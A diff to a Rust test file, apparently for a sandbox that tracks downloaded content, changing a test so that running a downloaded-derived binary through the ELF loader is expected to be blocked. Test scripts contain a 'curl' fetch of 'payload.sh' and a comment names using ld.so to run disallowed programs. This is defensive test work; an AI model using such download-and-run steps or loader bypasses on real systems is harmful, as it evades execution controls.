@@ -269,8 +269,9 @@ fn a_program_starts_an_interpreter_on_a_downloaded_script() {
 
 #[test]
 fn a_program_runs_a_tainted_binary_through_the_elf_loader() {
-    // `ld.so ./prog` runs `prog` without an execve of it: the loader's file
-    // arguments are code, like an interpreter's script.
+    // `ld.so ./prog` runs `prog` without an execve of it. The loader as a
+    // program is refused outright (issue 15: it would run programs the profile
+    // does not allow, `ld.so /usr/bin/perl`), whatever `prog` was built from.
     let loader = "/lib64/ld-linux-x86-64.so.2";
     if !std::path::Path::new(loader).exists() {
         return;
@@ -286,14 +287,15 @@ fn a_program_runs_a_tainted_binary_through_the_elf_loader() {
             "mkdir bin\ncurl -s {{URL}}/payload.sh -o dl.sh\n{}\n{run}",
             copy(r#"open("dl.sh").read(); "#)
         ),
-        FLOW,
+        "BLOCKED",
     );
-    // The control: built from nothing downloaded, it runs.
+    // The control: built from nothing downloaded, it runs by its own name.
     let a = arena();
+    let direct = r#"python3 -c 'import os; os.execv("bin/" + "prog", ["prog"])'"#;
     benign(
         &a,
         &format!(
-            "mkdir bin\ncurl -s {{URL}}/payload.sh -o dl.sh\n{}\n{run}",
+            "mkdir bin\ncurl -s {{URL}}/payload.sh -o dl.sh\n{}\n{direct}",
             copy("")
         ),
         None,
